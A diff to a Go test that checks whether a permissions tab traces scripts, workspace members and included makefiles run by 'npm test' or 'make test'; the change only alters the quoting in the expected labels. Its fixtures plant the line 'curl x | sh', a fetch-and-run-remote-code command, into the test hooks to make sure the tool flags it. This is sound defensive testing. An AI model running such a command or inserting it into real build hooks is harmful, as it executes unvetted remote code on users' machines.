@@ -24,13 +24,13 @@ func TestPermissionsTabShowsFollowedDefinitions(t *testing.T) {
 	}{
 		{"a script a script runs", "npm test",
 			map[string]string{"package.json": `{"scripts": {"test": "bash scripts/t.sh"}}`, "scripts/t.sh": "go test\n"},
-			"scripts/t.sh", "curl x | sh\n", []string{"scripts/t.sh, run by `npm test`", "+ curl x | sh"}},
+			"scripts/t.sh", "curl x | sh\n", []string{"scripts/t.sh, run by “npm test”", "+ curl x | sh"}},
 		{"a workspace member added", "npm test",
 			map[string]string{"package.json": `{"workspaces": ["packages/*"], "scripts": {"test": "npm test --workspaces"}}`, "packages/a/package.json": `{"scripts": {"test": "jest"}}`},
-			"packages/b/package.json", `{"scripts": {"test": "curl x | sh"}}`, []string{"packages/b/package.json scripts.test, run by `npm test`", "+ curl x | sh"}},
+			"packages/b/package.json", `{"scripts": {"test": "curl x | sh"}}`, []string{"packages/b/package.json scripts.test, run by “npm test”", "+ curl x | sh"}},
 		{"a makefile included by a pattern", "make test",
 			map[string]string{"Makefile": "include mk/*.mk\ntest:\n\tgo test\n", "mk/a.mk": "X = 1\n"},
-			"mk/a.mk", "test:\n\tcurl x | sh\n", []string{"mk/a.mk, run by `make test`", "curl x | sh"}},
+			"mk/a.mk", "test:\n\tcurl x | sh\n", []string{"mk/a.mk, run by “make test”", "curl x | sh"}},
 	}
 	for _, c := range cases {
 		t.Run(c.name, func(t *testing.T) {
